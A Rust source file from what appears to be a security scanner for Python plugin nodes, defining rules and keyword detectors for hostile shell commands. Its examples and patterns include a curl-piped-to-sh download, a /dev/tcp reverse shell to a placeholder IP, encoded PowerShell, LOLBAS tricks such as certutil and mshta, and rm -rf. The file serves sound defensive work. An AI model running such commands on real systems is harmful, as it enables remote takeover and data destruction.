//! What a command line does, by its words.

use crate::scan::finding::{Category, Intent, Severity};
use crate::scan::python::source::Hit;
use crate::scan::python::values::{UNKNOWN_PART, What};
use crate::scan::rules::{Example, Rule};

pub(in crate::scan) const RULES: &[Rule] = &[PY_HOSTILE_COMMAND, PY_DESTROY_COMMAND];

pub(in crate::scan) const PY_HOSTILE_COMMAND: Rule = Rule {
    id: "py-hostile-command",
    category: Category::CmdExec,
    severity: Severity::Critical,
    intent: Some(Intent::DownloadAndRun),
    reason: "A command downloads and runs code, or opens a shell to elsewhere.",
    why: "No honest node needs it.",
    fix: "Do not run this node.",
    examples: &[
        Example::found("import os\nos.system('curl http://x/y | sh')\n"),
        Example::found("import os\nos.system('bash -i >& /dev/tcp/1.2.3.4/5 0>&1')\n"),
        Example::found("import subprocess\nsubprocess.run(['powershell', '-enc', 'AAAA'])\n"),
        Example::twin("import os\nos.system('curl -o x http://y')\n"),
    ],
};

pub(in crate::scan) const PY_DESTROY_COMMAND: Rule = Rule {
    id: "py-destroy-command",
    category: Category::CmdExec,
    severity: Severity::High,
    intent: None,
    reason: "A command removes files.",
    why: "`rm -rf` with a wrong word removes what nobody meant.",
    fix: "Remove the one file that is meant with os.remove().",
    examples: &[
        Example::found("import subprocess\nsubprocess.check_call(['rm', '-rf', 'd'])\n"),
        Example::twin("import subprocess\nsubprocess.check_call(['git', 'rm', 'd'])\n"),
    ],
};

/// What no honest node tells a shell.
pub(in crate::scan::python) fn hostile(line: &str) -> Option<Hit> {
    let lower = line.to_ascii_lowercase();
    let has = |word: &str| lower.contains(word);
    let mut words = lower.split(|c: char| {
        c.is_whitespace() || matches!(c, ';' | '|' | '&' | '/' | '(' | '\'' | '"')
    });
    let netcat = words.any(|w| matches!(w, "nc" | "ncat" | "netcat" | "nc.exe"));
    let remote_shell = has("/dev/tcp/")
        || netcat && (has(" -e ") || has(" -c ") || has("mkfifo"))
        || has("socat ") && has("exec:");
    if remote_shell {
        let message = format!(
            "The command opens a shell to elsewhere: `{}`.",
            excerpt(line)
        );
        return Some(Hit::of(&PY_HOSTILE_COMMAND, message).with_intent(Intent::RemoteShell));
    }
    let fetches =
        has("curl ") || has("wget ") || has("fetch ") || has("certutil") || has("bitsadmin");
    let pipes = [
        "| sh", "|sh", "| bash", "|bash", "| python", "|python", "| sudo", "| zsh", "| perl",
        "$(curl", "$(wget", "`curl", "<(curl",
    ]
    .iter()
    .any(|p| has(p));
    let powershell = has("powershell") || has("pwsh");
    let encoded =
        powershell && (has(" -enc") || has(" -e ") || has(" -ec ") || has("frombase64string"));
    let downloads = powershell
        && (has("downloadfile")
            || has("downloadstring")
            || has("invoke-expression")
            || has("iex")
            || has("invoke-webrequest") && has("start-process"));
    let hidden = powershell && has("hidden") && (has("bypass") || encoded);
    let runs_after = fetches
        && (has("chmod +x")
            || has("&& ./")
            || has("; ./")
            || has("&& sh ")
            || has("&& bash ")
            || has("; sh ")
            || has("; bash "));
    let lolbas = has("mshta ")
        || has("regsvr32") && has("http")
        || has("rundll32") && (has("javascript") || has(".dll,") || has(".db,"))
        || has("certutil") && (has("-urlcache") || has("-decode"))
        || has("bitsadmin") && has("/transfer");
    let decoded = (has("base64 -d") || has("base64 --decode")) && pipes;
    let bad = fetches && pipes || encoded || downloads || hidden || runs_after || lolbas || decoded;
    bad.then(|| {
        Hit::of(
            &PY_HOSTILE_COMMAND,
            format!(
                "The command fetches or decodes code and runs it: `{}`.",
                excerpt(line)
            ),
        )
    })
}

pub(super) fn excerpt(line: &str) -> String {
    let shown: String = line
        .chars()
        .take(80)
        .map(|c| if c == UNKNOWN_PART { '…' } else { c })
        .collect();
    shown.replace(['\n', '\r'], " ")
}

/// Whether `value` is a list of words whose program is constant and runs no word as code, so that
/// the data of `carries` is only told to it.
pub(in crate::scan::python) fn is_told_only(
    value: &super::Value,
    carries: impl Fn(&super::Value) -> bool,
) -> bool {
    let all = value.alternatives();
    all.iter().all(|what| match what {
        What::List(words, _) => words_are_told_only(words, &carries),
        _ => false,
    })
}

fn words_are_told_only(words: &[super::Value], carries: &impl Fn(&super::Value) -> bool) -> bool {
    let Some(first) = words.first() else {
        return false;
    };
    if carries(first) {
        return false;
    }
    let program = first.as_part();
    let name = program
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or("")
        .trim_end_matches(".exe");
    let runs_words = [
        "python",
        "sh",
        "bash",
        "zsh",
        "dash",
        "cmd",
        "powershell",
        "pwsh",
        "perl",
        "ruby",
        "node",
        "env",
        "sudo",
        "xargs",
        "find",
        "ssh",
        "osascript",
    ]
    .iter()
    .any(|p| {
        name == *p
            || name
                .strip_prefix(p)
                .is_some_and(|rest| rest.chars().all(|c| c.is_ascii_digit() || c == '.'))
    });
    if !runs_words {
        return true;
    }
    let module = words
        .get(1..)
        .unwrap_or_default()
        .iter()
        .take(3)
        .any(|w| w.as_text().is_some_and(|t| &*t == "-m"));
    let at = words.iter().position(carries).unwrap_or(0);
    // A constant script comes first: `python script.py DATA`.
    let script = words.get(1).is_some_and(|w| !w.as_part().starts_with('-'));
    module || script && at > 1
}

/// Whether a list of words tells a program that works on media or tells of the machine what to do,
/// and nothing that changes the machine.
pub(in crate::scan::python) fn only_asks(value: &super::Value) -> bool {
    const TOOLS: &[&str] = &[
        "ffmpeg",
        "ffprobe",
        "nvidia-smi",
        "rocm-smi",
        "uname",
        "sw_vers",
        "system_profiler",
        "lscpu",
        "lspci",
        "nproc",
        "exiftool",
        "gifski",
        "gifsicle",
    ];
    const GIT_ASKS: &[&str] = &[
        "rev-parse",
        "rev-list",
        "describe",
        "log",
        "status",
        "branch",
        "show",
        "ls-files",
        "--version",
    ];
    let words_ask = |words: &[super::Value]| {
        let Some(first) = words.first() else {
            return false;
        };
        if first.name() == Some("imageio_ffmpeg.get_ffmpeg_exe()") {
            return true;
        }
        let Some(program) = first.as_whole_text() else {
            return false;
        };
        let program = program.trim_end_matches(".exe");
        let asked = words.get(1).and_then(super::Value::as_whole_text);
        TOOLS.contains(&program)
            || program == "git" && asked.is_some_and(|w| GIT_ASKS.contains(&&*w))
    };
    value.alternatives().iter().all(|what| match what {
        What::List(words, _) => words_ask(words),
        _ => false,
    })
}
